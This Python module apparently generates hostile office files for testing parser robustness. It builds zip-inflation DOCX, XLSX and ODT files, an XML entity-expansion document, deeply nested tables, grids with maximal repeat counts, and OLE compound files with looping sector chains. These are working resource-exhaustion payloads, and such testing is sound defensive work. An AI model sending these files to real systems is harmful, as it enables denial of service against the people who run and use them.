"""Office files: parts that unpack to much, cells repeated without end, entities, compound files in circles."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from tools.hostile.bombs_zip import inflating, zipped

_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_WORD = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
_ODF = (
    b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body>'
)
_CELLS = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _merged(packed: bytes, files: dict[str, bytes], *, first: tuple[str, ...] = ()) -> bytes:
    """Put small parts before a large packed one."""
    small = io.BytesIO(zipped(files, stored=first))
    with (
        zipfile.ZipFile(io.BytesIO(packed)) as source,
        zipfile.ZipFile(small, "a", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            with source.open(entry) as read, target.open(entry.filename, "w", force_zip64=True) as write:
                while piece := read.read(1 << 20):
                    write.write(piece)
    return small.getvalue()


def _docx() -> tuple[str, bytes]:
    paragraph = b"<w:p><w:r><w:t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</w:t></w:r></w:p>"
    large = inflating("word/document.xml", 300, begin=_WORD, end=b"</w:body></w:document>", fill=paragraph)
    return "cerere.docx", _merged(
        large, {"[Content_Types].xml": _TYPES, "word/_rels/document.xml.rels": b"<r/>"}
    )


def _docx_depth() -> tuple[str, bytes]:
    body = _WORD + b"<w:tbl><w:tr><w:tc>" * 200_000 + b"x"
    return "cerere.docx", zipped({"[Content_Types].xml": _TYPES, "word/document.xml": body})


def _docx_entities() -> tuple[str, bytes]:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    body = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">' + entities + b"]>" + _WORD[21:]
    body += b"<w:p><w:r><w:t>&a11;</w:t></w:r></w:p></w:body></w:document>"
    return "cerere.docx", zipped({"[Content_Types].xml": _TYPES, "word/document.xml": body})


def _xlsx() -> tuple[str, bytes]:
    row = b'<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaa</t></is></c></row>'
    large = inflating("xl/worksheets/sheet1.xml", 300, begin=_CELLS + b"<sheetData>", fill=row)
    return "tabel.xlsx", _merged(large, {"[Content_Types].xml": _TYPES, "xl/workbook.xml": b"<workbook/>"})


def _xlsx_cells() -> tuple[str, bytes]:
    """Two cells at opposite corners of the largest sheet: whoever draws the grid between them never ends."""
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    sheet = _CELLS + b'<dimension ref="A1:XFD1048576"/><sheetData>' + cells + b"</sheetData></worksheet>"
    book = (
        b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        b'<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    links = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        b'Target="worksheets/sheet1.xml"/></Relationships>'
    )
    files = {"[Content_Types].xml": _TYPES, "xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": links}
    return "tabel.xlsx", zipped({**files, "xl/worksheets/sheet1.xml": sheet})


def _odt() -> tuple[str, bytes]:
    large = inflating(
        "content.xml", 300, begin=_ODF + b"<office:text>", fill=b"<text:p>aaaaaaaaaaaaaaaaa</text:p>"
    )
    kind = {"mimetype": b"application/vnd.oasis.opendocument.text"}
    return "cerere.odt", _merged(large, kind, first=("mimetype",))


def _odt_spaces() -> tuple[str, bytes]:
    body = _ODF + b"<office:text><text:p>" + b'<text:s text:c="2147483647"/>' * 2_000 + b"</text:p>"
    body += b"</office:text></office:body></office:document-content>"
    files = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": body}
    return "cerere.odt", zipped(files, stored=("mimetype",))


def _ods_cells() -> tuple[str, bytes]:
    cell = b'<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
    row = b'<table:table-row table:number-rows-repeated="1048576">' + cell + b"</table:table-row>"
    body = _ODF + b"<office:spreadsheet><table:table>" + row + b"</table:table></office:spreadsheet>"
    files = {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": body + b"</office:body></office:document-content>",
    }
    return "tabel.ods", zipped(files, stored=("mimetype",))


def _compound(name: str, chain: int, size: int) -> Callable[[], tuple[str, bytes]]:
    """A compound file whose chain of sectors comes back to itself."""

    def make() -> tuple[str, bytes]:
        head = bytearray(512)
        head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
        struct.pack_into("<IIIIIIIII", head, 40, 0, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0)
        struct.pack_into("<109I", head, 76, 0, *[0xFFFFFFFF] * 108)
        fat = struct.pack("<128I", 0xFFFFFFFD, chain, 0xFFFFFFFE, *range(4, 128), 3)
        entry = bytearray(128)
        title = "Root Entry".encode("utf-16-le")
        entry[: len(title)] = title
        struct.pack_into("<HBBIII", entry, 64, len(title) + 2, 5, 1, 0, 0, 0)
        struct.pack_into("<IQ", entry, 116, 3, size)
        return name, bytes(head) + fat + bytes(entry) * 4 + bytes(512) * 124

    return make


BOMBS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "docx-inflation": _docx,
    "docx-depth": _docx_depth,
    "docx-entities": _docx_entities,
    "xlsx-inflation": _xlsx,
    "xlsx-corners": _xlsx_cells,
    "odt-inflation": _odt,
    "odt-spaces": _odt_spaces,
    "ods-repeated": _ods_cells,
    "doc-chain": _compound("cerere.doc", 1, 0xFFFFFFFF),
    "msg-chain": _compound("mesaj.msg", 2, 1 << 30),
}
